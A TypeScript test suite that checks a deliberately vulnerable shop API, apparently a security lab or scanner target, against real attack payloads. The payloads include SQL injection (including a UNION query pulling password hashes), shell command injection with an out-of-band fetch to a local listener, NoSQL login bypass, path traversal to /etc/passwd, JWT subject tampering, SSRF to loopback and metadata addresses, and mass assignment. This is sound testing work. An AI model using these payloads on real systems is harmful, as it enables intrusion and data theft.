// The flaws are genuine, not canned answers to one payload: other payload shapes, other tools'
// techniques and real consequences work too.

import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SEED, STANDARD_INTROSPECTION_QUERY, startTarget, type Target } from '.';
import { call, jwtBuild, jwtParts, listen, STACK_TRACE } from './testing';

let t: Target;
beforeAll(async () => {
  t = await startTarget({ mode: 'vulnerable' });
});
afterAll(() => t.close());
const alice = () => ({ key: t.users.alice.key });

describe('SQL injection is real SQL', () => {
  it('boolean payloads change the result set, including other users\' rows', async () => {
    const q = (status: string) => call(t, 'GET', `/api/v2/orders?status=${encodeURIComponent(status)}`, alice());
    expect((await q('shipped')).json.items).toHaveLength(1);
    expect((await q("shipped' AND '1'='2")).json.items).toHaveLength(0);
    const all = (await q("x' OR '1'='1")).json.items as { ownerId: number }[];
    expect(new Set(all.map((o) => o.ownerId))).toEqual(new Set([t.users.alice.id, t.users.bob.id]));
    const numeric = await call(t, 'GET', `/api/v2/products/${encodeURIComponent('1 OR 1=1')}/reviews?page_size=5`);
    expect(numeric.json.total).toBeGreaterThan(SEED.product1Reviews);
    const union = await call(t, 'GET', `/api/v2/products?category=${encodeURIComponent("x' UNION SELECT 1, username, password_hash, email, 1, 1, 1, 1, 1 FROM users--")}`);
    expect(union.status).toBe(200);
    expect(JSON.stringify(union.json.items)).toContain('$scrypt$');
  });

  it('errors carry the SQLite message for broken syntax of any shape', async () => {
    for (const payload of ["'", "')", "books' AND", "books' ORDER BY 99--"]) {
      const res = await call(t, 'GET', `/api/v2/products?category=${encodeURIComponent(payload)}`);
      expect(res.status, payload).toBe(500);
      expect(res.json.message, payload).toMatch(/^SQLITE_ERROR: /);
    }
  });

  it('delays follow the requested time, so a second run with a different delay confirms it', async () => {
    const q = (s: number) => call(t, 'GET', `/api/v2/orders?status=${encodeURIComponent(`x' OR sleep(${s})--`)}`, alice());
    const one = await q(0.5);
    const two = await q(1.5);
    expect(one.ms).toBeGreaterThanOrEqual(450);
    expect(two.ms).toBeGreaterThanOrEqual(1450);
    expect(two.ms - one.ms).toBeGreaterThan(600);
    // A sleeping query does not hold up the rest of the target.
    const [slow, fast] = await Promise.all([q(1), call(t, 'GET', '/api/v2/products/12')]);
    expect(fast.ms).toBeLessThan(slow.ms / 2);
  });
});

describe('command injection runs a real shell', () => {
  it('delays with several separator styles', async () => {
    const payloads = ['x;sleep 1', 'x|sleep 1', 'x$(sleep 1)', 'x`sleep 1`', 'x\nsleep 1', 'x||sleep 1'];
    const results = await Promise.all(payloads.map((p) => call(t, 'GET', `/api/v2/downloads/checksum?file=${encodeURIComponent(p)}`, alice())));
    results.forEach((r, i) => expect(r.ms, payloads[i]).toBeGreaterThanOrEqual(900));
    const plain = await call(t, 'GET', '/api/v2/downloads/checksum?file=catalog-2026.txt', alice());
    expect(plain.json.sha256).toMatch(/^[0-9a-f]{64}$/);
  });

  it('runs an out-of-band command that reaches a listener', async () => {
    const l = await listen();
    try {
      await call(t, 'GET', `/api/v2/downloads/checksum?file=${encodeURIComponent(`x; node -e "fetch('${l.url}/oob')"`)}`, alice());
      expect(l.hits.map((h) => h.url)).toContain('/oob');
    } finally {
      await l.close();
    }
  });
});

describe('other injections and disclosures', () => {
  it('NoSQL operators bypass the login in several forms', async () => {
    const login = (body: unknown) => call(t, 'POST', '/api/v2/auth/login', { body });
    const first = await login({ username: { $ne: null }, password: { $ne: null } });
    expect((await call(t, 'GET', '/api/v2/me', { key: first.json.accessToken })).json.username).toBe('admin');
    for (const password of [{ $gt: '' }, { $regex: '.*' }, { $exists: true }]) {
      const res = await login({ username: 'bob', password });
      expect(res.status, JSON.stringify(password)).toBe(200);
    }
    expect((await login({ username: 'bob', password: 'wrong' })).status).toBe(401);
  });

  it('path traversal reads real files in several encodings', async () => {
    // Deep enough for any checkout: the target's files live under the machine's temporary directory.
    for (const file of [`${'../'.repeat(16)}etc/passwd`, `${'..%2f'.repeat(16)}etc%2fpasswd`, `....//${'../'.repeat(16)}etc/passwd`]) {
      const res = await call(t, 'GET', `/api/v2/downloads/content?file=${file.includes('%') ? file : encodeURIComponent(file)}`, alice());
      expect(res.text, file).toContain('root:');
    }
    const db = await call(t, 'GET', `/api/v2/downloads/content?file=${encodeURIComponent('../shop.db')}`, alice());
    expect(db.text.startsWith('SQLite format 3')).toBe(true);
  });

  it('verbose errors show real stack frames and the parser message', async () => {
    const res = await call(t, 'POST', '/api/v2/orders', { ...alice(), raw: '{"items": [' });
    expect(res.status).toBe(500);
    expect(res.json.error).toBe('SyntaxError');
    expect(res.json.stack).toMatch(STACK_TRACE);
    expect(res.json.stack).toMatch(/JSON\.parse/);
  });

  it('TRACE echoes the credentials back', async () => {
    const res = await call(t, 'TRACE', '/api/v2/me', alice());
    expect(res.headers['content-type']).toBe('message/http');
    expect(res.text).toContain(`authorization: Bearer ${t.users.alice.key}`);
  });

  it('a changed sub acts as that user, including the admin', async () => {
    const { header, payload, signature } = jwtParts(t.users.alice.key);
    const asAdmin = jwtBuild(header, { ...payload, sub: String(t.users.admin.id) }, signature);
    expect((await call(t, 'GET', '/api/v2/me', { key: asAdmin })).json.role).toBe('admin');
    const unknown = jwtBuild(header, { ...payload, sub: '999' }, signature);
    expect((await call(t, 'GET', '/api/v2/me', { key: unknown })).status).toBe(401);
  });
});

describe('SSRF reaches what a real fetch reaches', () => {
  it('fetches loopback by name and by alternative IP encodings', async () => {
    const port = new URL(t.url).port;
    for (const url of [`http://localhost:${port}/`, `http://2130706433:${port}/`, `http://0x7f.0.0.1:${port}/`, `http://127.1:${port}/`]) {
      const res = await call(t, 'POST', '/api/v2/link-preview', { ...alice(), body: { url } });
      expect(res.json?.snippet, url).toContain('Acme Shop API');
    }
  });

  it('reports the connection error, a port-scan oracle', async () => {
    const l = await listen();
    const port = new URL(l.url).port;
    await l.close();
    const res = await call(t, 'POST', '/api/v2/link-preview', { ...alice(), body: { url: `http://127.0.0.1:${port}/` } });
    expect(res.status).toBe(502);
    expect(res.json.message).toMatch(/ECONNREFUSED/);
  });

  it('blind SSRF through the avatar import reaches the listener', async () => {
    const l = await listen();
    try {
      const res = await call(t, 'PUT', '/api/v2/me/avatar', { ...alice(), body: { imageUrl: `${l.url}/avatar.png` } });
      expect(res.status).toBe(422);
      expect(l.hits.map((h) => h.url)).toEqual(['/avatar.png']);
      expect(l.hits[0]!.headers['user-agent']).toMatch(/AcmeShop-Fetcher/);
    } finally {
      await l.close();
    }
  });

  it('never lets a non-loopback destination leave the machine', async () => {
    t.outbound.reset();
    await call(t, 'POST', '/api/v2/link-preview', { ...alice(), body: { url: 'http://example.com/' } });
    await call(t, 'POST', '/api/v2/link-preview', { ...alice(), body: { url: 'http://169.254.169.254/computeMetadata/v1/' } });
    expect(t.outbound.all().map((o) => [o.url, o.outcome])).toEqual([
      ['http://example.com/', 'egress-blocked'],
      ['http://169.254.169.254/computeMetadata/v1/', 'egress-blocked'],
    ]);
  });
});

describe('GraphQL', () => {
  it('answers the standard introspection query with the introspection types and the schema', async () => {
    const res = await call(t, 'POST', '/graphql', { body: { query: STANDARD_INTROSPECTION_QUERY, operationName: 'IntrospectionQuery' } });
    const schema = res.json.data.__schema;
    expect(schema.queryType).toEqual({ name: 'Query' });
    const names = schema.types.map((x: { name: string }) => x.name);
    for (const n of ['Query', 'Product', 'User', 'Order', 'Category', '__Schema', '__Type', '__Field', 'String', 'Boolean']) expect(names).toContain(n);
    const query = schema.types.find((x: { name: string }) => x.name === 'Query');
    const products = query.fields.find((f: { name: string }) => f.name === 'products');
    expect(products.type).toEqual({ kind: 'NON_NULL', name: null, ofType: { kind: 'LIST', name: null, ofType: { kind: 'NON_NULL', name: null, ofType: { kind: 'OBJECT', name: 'Product', ofType: null } } } });
    expect(products.args.map((a: { name: string }) => a.name)).toEqual(['limit', 'category']);
  });

  it('runs queries with aliases, variables, fragments, directives and GET', async () => {
    const res = await call(t, 'POST', '/api/v2/graphql', {
      ...alice(),
      body: {
        query: 'query Q($n: Int, $skip: Boolean!) { first: products(limit: $n) { ...P } me { username } t: __type(name: "Order") { fields { name } } hidden: me @skip(if: $skip) { id } } fragment P on Product { id name }',
        variables: { n: 2, skip: true },
      },
    });
    expect(res.json.errors).toBeUndefined();
    expect(res.json.data.first).toHaveLength(2);
    expect(res.json.data.me).toEqual({ username: 'alice' });
    expect(res.json.data.t.fields.map((f: { name: string }) => f.name)).toContain('status');
    expect(res.json.data).not.toHaveProperty('hidden');
    const get = await call(t, 'GET', `/graphql?query=${encodeURIComponent('{ __typename product(id: 12) { name } }')}`);
    expect(get.json.data.__typename).toBe('Query');
    expect(get.json.data.product.name).toBeTruthy();
    const bad = await call(t, 'POST', '/graphql', { body: { query: '{ products { nope } }' } });
    expect(bad.json.errors[0].message).toBe('Cannot query field "nope" on type "Product".');
    const syntax = await call(t, 'POST', '/graphql', { body: { query: '{ products(' } });
    expect(syntax.json.errors[0].message).toMatch(/^Syntax Error/);
  });
});

describe('stateful flaws', () => {
  it('use-after-delete: the list hides the note but the direct read still serves it', async () => {
    const note = await call(t, 'POST', '/api/v2/notes', { ...alice(), body: { title: 'to delete' } });
    await call(t, 'DELETE', `/api/v2/notes/${note.json.id}`, alice());
    const list = await call(t, 'GET', '/api/v2/notes?per_page=50', alice());
    expect(list.json.items.map((n: { id: string }) => n.id)).not.toContain(note.json.id);
    expect((await call(t, 'GET', `/api/v2/notes/${note.json.id}`, alice())).json.title).toBe('to delete');
  });

  it('a mass-assigned admin role is a real admin', async () => {
    const mallory = await startTarget({ mode: 'hardened', flaws: { 'mass-assign-privilege': true } });
    try {
      await call(mallory, 'PATCH', '/api/v2/me', { key: mallory.users.bob.key, body: { is_admin: true } });
      expect((await call(mallory, 'GET', '/api/v2/admin/users', { key: mallory.users.bob.key })).status).toBe(200);
    } finally {
      await mallory.close();
    }
  });
});
